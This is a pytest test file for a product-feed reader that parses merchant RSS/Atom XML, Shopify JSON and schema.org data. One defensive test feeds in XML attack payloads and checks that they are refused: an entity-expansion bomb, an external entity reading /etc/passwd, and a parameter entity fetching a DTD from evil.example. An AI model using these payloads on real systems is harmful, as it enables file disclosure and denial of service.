"""Feeds that are one document: XML, Shopify's products, schema.org."""

from __future__ import annotations

import json
import time

import pytest

from overlay.catalog.feeds.base import FeedContext, feed_format, read_feed
from overlay.catalog.rows import FeedRow, RowProblem, check_row
from overlay.errors import FeedError
from overlay.types import Availability, Product

SHOP = FeedContext("https://shop.example/pages/x", "EUR")

RSS = """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:g="http://base.google.com/ns/1.0"><channel><title>Shop</title><link>https://x.example</link>
<item>
  <g:id>m1</g:id><title>Plain &amp; simple</title><g:title>Red mug</g:title><link>https://x.example/m1</link>
  <description><![CDATA[A <b>mug</b>]]></description>
  <g:image_link>https://x.example/m1.png</g:image_link>
  <g:additional_image_link>https://x.example/a.png</g:additional_image_link>
  <g:additional_image_link>https://x.example/b.png</g:additional_image_link>
  <g:shipping><g:price>4.00 EUR</g:price></g:shipping>
  <g:price>12.00 EUR</g:price><g:availability>out of stock</g:availability><g:gtin>4006381333931</g:gtin>
</item>
<item><g:id>m2</g:id><title>Cup</title><link>https://x.example/m2</link><g:image_link>m2.png</g:image_link>
  <g:price>3 EUR</g:price></item>
</channel></rss>"""

ATOM = """<feed xmlns="http://www.w3.org/2005/Atom" xmlns:g="http://base.google.com/ns/1.0"><title>Shop</title>
<entry><id>m1</id><title>Cup</title><link rel="self" href="https://x.example/self"/>
<link href="https://x.example/m1"/><summary>Small</summary>
<g:image_link>m1.png</g:image_link><g:price>3 EUR</g:price></entry></feed>"""


def rows(text: str, kind: str, context: FeedContext = SHOP) -> list[FeedRow | RowProblem]:
    return list(read_feed(text.encode(), kind, context))


def products(text: str, kind: str, context: FeedContext = SHOP) -> list[Product]:
    found = []
    for row in rows(text, kind, context):
        assert isinstance(row, FeedRow), row
        checked = check_row(row)
        assert isinstance(checked, Product), checked
        found.append(checked)
    return found


def test_rss_with_merchant_fields() -> None:
    mug, cup = products(RSS, "xml")
    assert (mug.id, mug.title, mug.price, mug.gtin) == ("m1", "Red mug", "12.00 EUR", "4006381333931")
    assert mug.additional_image_link == ("https://x.example/a.png", "https://x.example/b.png")
    assert mug.availability is Availability.OUT_OF_STOCK and mug.description == "A <b>mug</b>"
    assert cup.title == "Cup" and [row.line for row in rows(RSS, "xml")] == [3, 12]


def test_atom() -> None:
    (cup,) = products(ATOM, "xml")
    assert (cup.link, cup.description, cup.id) == ("https://x.example/m1", "Small", "m1")


def test_xml_in_a_declared_encoding() -> None:
    data = RSS.replace("UTF-8", "ISO-8859-1").replace("Red mug", "Tasse für Käse").encode("latin-1")
    (first, *_) = read_feed(data, "xml")
    assert isinstance(first, FeedRow) and first.values["title"] == "Tasse für Käse"
    with pytest.raises(FeedError, match="'nonsense'"):
        list(read_feed(RSS.replace("UTF-8", "nonsense").encode(), "xml"))


LAUGHS = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))


@pytest.mark.parametrize(
    "subset",
    [
        f'<!ENTITY a0 "ha">{LAUGHS}',
        '<!ENTITY a11 SYSTEM "file:///etc/passwd">',
        '<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;',
        '<!ENTITY a11 SYSTEM "x.gif" NDATA gif>',
    ],
)
def test_entities_are_refused_before_they_are_read(subset: str) -> None:
    text = f"<!DOCTYPE rss [{subset}]><rss><channel><item><title>&a11;</title></item></channel></rss>"
    began = time.process_time()
    with pytest.raises(FeedError, match="entity declaration"):
        rows(text, "xml")
    assert time.process_time() - began < 1.0


def test_nesting_without_end_is_refused() -> None:
    with pytest.raises(FeedError, match="nested more than 32 deep"):
        rows("<rss>" + "<a>" * 100_000, "xml")


def test_xml_that_breaks_off_keeps_what_was_read() -> None:
    first, problem = rows(RSS[: RSS.index("<item><g:id>m2") + 30], "xml")
    assert isinstance(first, FeedRow) and first.values["id"] == "m1"
    assert isinstance(problem, RowProblem) and problem.line == 12 and "not well-formed" in problem.message


@pytest.mark.parametrize(
    ("text", "part"), [("<rss><chan", "line 1: not well-formed"), ("<html></html>", "without <item>")]
)
def test_xml_without_products_is_refused(text: str, part: str) -> None:
    with pytest.raises(FeedError, match=part):
        rows(text, "xml")


def test_a_long_feed_is_read_piece_by_piece() -> None:
    item = RSS[RSS.index("<item><g:id>m2") : RSS.index("</channel>")]
    found = rows(
        f'<rss xmlns:g="http://base.google.com/ns/1.0"><channel>{item * 3000}</channel></rss>', "xml"
    )
    assert len(found) == 3000 and all(
        row.values["title"] == "Cup" for row in found if isinstance(row, FeedRow)
    )


SHOPIFY = {
    "products": [
        {
            "id": 77,
            "title": "Tee",
            "handle": "tee",
            "body_html": "<p>Soft&nbsp;cotton</p><script>x()</script><p>Red</p>",
            "vendor": "Acme",
            "options": [{"name": "Color"}, {"name": "Size"}],
            "variants": [
                {
                    "id": 1,
                    "title": "Red / S",
                    "option1": "Red",
                    "option2": "S",
                    "sku": "T-R-S",
                    "barcode": "4006381333931",
                    "price": "15.00",
                    "compare_at_price": "20.00",
                    "available": True,
                },
                {"id": 2, "title": "Blue / S", "option1": "Blue", "price": "20.00", "available": False},
            ],
            "images": [
                {"id": 5, "src": "//cdn.example/blue.png", "variant_ids": [2]},
                {"id": 6, "src": "https://cdn.example/red.png", "variant_ids": [1]},
                {"id": 7, "src": "https://cdn.example/both.png", "variant_ids": []},
            ],
        },
        {"id": 78, "title": "Broken"},
        {"id": 79, "title": "Cap", "variants": [{"id": 3, "title": "Default Title", "price": "9.00"}, 4]},
    ]
}


def test_shopify_gives_a_row_for_each_variant() -> None:
    red, blue, broken, cap, four = rows(json.dumps(SHOPIFY), "shopify")
    assert isinstance(red, FeedRow) and isinstance(blue, FeedRow) and isinstance(cap, FeedRow)
    tee = check_row(red)
    assert isinstance(tee, Product)
    assert (tee.id, tee.item_group_id, tee.title, tee.color, tee.size) == (
        "1",
        "77",
        "Tee - Red / S",
        "Red",
        "S",
    )
    assert (tee.price, tee.sale_price, tee.gtin) == ("20.00 EUR", "15.00 EUR", "4006381333931")
    assert tee.link == "https://shop.example/products/tee?variant=1" and tee.description == "Soft cotton Red"
    assert tee.image_link == "https://cdn.example/red.png"
    assert tee.additional_image_link == ("https://cdn.example/both.png",)
    assert blue.values["image_link"] == "https://cdn.example/blue.png"
    assert blue.values["availability"] == "out_of_stock" and "sale_price" not in blue.values
    assert isinstance(broken, RowProblem) and (broken.line, broken.id) == (2, "")
    assert cap.values["title"] == "Cap" and isinstance(four, RowProblem)


def test_shopify_needs_a_currency() -> None:
    with pytest.raises(FeedError, match="--currency EUR"):
        rows(json.dumps(SHOPIFY), "shopify", FeedContext("https://shop.example"))


GRAPH = {
    "@context": "https://schema.org",
    "@graph": [
        {"@type": "WebPage", "name": "Mug"},
        {
            "@type": ["Product", "Thing"],
            "sku": "m1",
            "name": "Mug &amp; lid",
            "url": "/mug",
            "image": [{"@type": "ImageObject", "contentUrl": "/m1.png"}, "https://x.example/2.png"],
            "brand": {"@type": "Brand", "name": "Acme"},
            "gtin13": "4006381333931",
            "offers": {"@id": "#offer"},
            "isSimilarTo": {"@type": "Product", "sku": "other"},
        },
        {
            "@id": "#offer",
            "@type": "Offer",
            "price": 12.5,
            "priceCurrency": "EUR",
            "availability": "https://schema.org/PreOrder",
            "itemCondition": "schema:UsedCondition",
            "seller": {"name": "Partner"},
        },
    ],
}


def test_schema_org_graph_with_an_offer_by_reference() -> None:
    (mug,) = products(json.dumps(GRAPH), "schema.org")
    assert (mug.id, mug.title, mug.price) == ("m1", "Mug & lid", "12.5 EUR")
    assert (mug.link, mug.image_link) == ("https://shop.example/mug", "https://shop.example/m1.png")
    assert mug.additional_image_link == ("https://x.example/2.png",)
    assert (mug.availability, mug.condition) == (Availability.PREORDER, "used")
    assert (mug.brand, mug.gtin, mug.seller) == ("Acme", "4006381333931", "Partner")


def test_schema_org_in_a_page_aggregate_offers_and_variants() -> None:
    aggregate = {
        "@type": "Product",
        "name": "Cup",
        "url": "https://x.example/cups/cup-7",
        "image": "https://x.example/c.png",
        "offers": {"@type": "AggregateOffer", "lowPrice": "3.00", "highPrice": "4", "priceCurrency": "EUR"},
    }
    group = {
        "@type": "ProductGroup",
        "productGroupID": "g1",
        "brand": "Acme",
        "hasVariant": [
            {
                "@type": "Product",
                "sku": sku,
                "name": sku,
                "image": "https://x.example/v.png",
                "url": "https://x.example/v",
                "offers": [
                    {"@type": "Offer", "price": "9", "priceCurrency": "EUR", "availability": "OutOfStock"},
                    {"@type": "Offer", "priceSpecification": {"price": "8", "priceCurrency": "EUR"}},
                ],
            }
            for sku in ("v1", "v2")
        ],
    }
    page = (
        "<!doctype html><html><head><script>var a = '<b>';</script>"
        f'<script type="application/ld+json">{json.dumps([aggregate, group])}</script>'
        '<script type="application/ld+json">{broken</script></head></html>'
    )
    cup, one, two, broken = rows(page, "schema.org")
    assert isinstance(cup, FeedRow) and isinstance(one, FeedRow) and isinstance(two, FeedRow)
    assert cup.values["id"] == "cup-7" and cup.values["price"] == "3.00 EUR"
    assert one.values["brand"] == "Acme" and two.values["item_group_id"] == "g1"
    assert one.values["price"] == "8 EUR" and [one.line, two.line] == [2, 3]
    assert isinstance(broken, RowProblem) and "not JSON" in broken.message


@pytest.mark.parametrize("text", ["{}", "<html></html>", '{"@type": "Event"}', "[" * 5000 + "]" * 5000])
def test_schema_org_without_products_is_refused(text: str) -> None:
    with pytest.raises(FeedError):
        rows(text, "schema.org")


@pytest.mark.parametrize("kind", ["shopify", "schema.org"])
@pytest.mark.parametrize("cut", range(0, 600, 23))
def test_documents_that_break_off_are_refused_with_reason(kind: str, cut: int) -> None:
    text = json.dumps(SHOPIFY if kind == "shopify" else GRAPH)[: cut + 1]
    with pytest.raises(FeedError, match="not JSON"):
        rows(text, kind)


@pytest.mark.parametrize(
    ("value", "part"),
    [
        ({"offers": {"price": "5", "priceCurrency": "XYZ"}}, "currency 'XYZ'"),
        ({"gtin13": "4006381333930"}, "check digit"),
        ({"offers": {"price": "5", "priceCurrency": "EUR", "availability": "Someday"}}, "'Someday'"),
    ],
)
def test_bad_values_reach_the_report(value: dict[str, object], part: str) -> None:
    good = {"@type": "Product", "sku": "m", "name": "M", "url": "https://x.example/m", "image": "m.png"}
    node = good | {"offers": {"price": "5", "priceCurrency": "EUR"}} | value
    (row,) = rows(json.dumps(node), "schema.org")
    assert isinstance(row, FeedRow)
    checked = check_row(row)
    assert isinstance(checked, list) and part in checked[0].message


@pytest.mark.parametrize(
    ("name", "data", "kind"),
    [
        ("f.xml", b"", "xml"),
        ("f.rss", b"", "xml"),
        ("page.html", b"", "schema.org"),
        ("products.json", b'\n{"products":[]}', "shopify"),
        ("x.json", b'{"@context": "https://schema.org"}', "schema.org"),
        ("x.json", b'{"id": "a"}\n{"id": "b"}', "jsonl"),
        ("feed", b"<?xml version='1.0'?><rss version='2.0'>", "xml"),
        ("", b"<!doctype html><html>", "schema.org"),
    ],
)
def test_format_by_ending_and_by_content(name: str, data: bytes, kind: str) -> None:
    assert feed_format(name, "", data) == kind
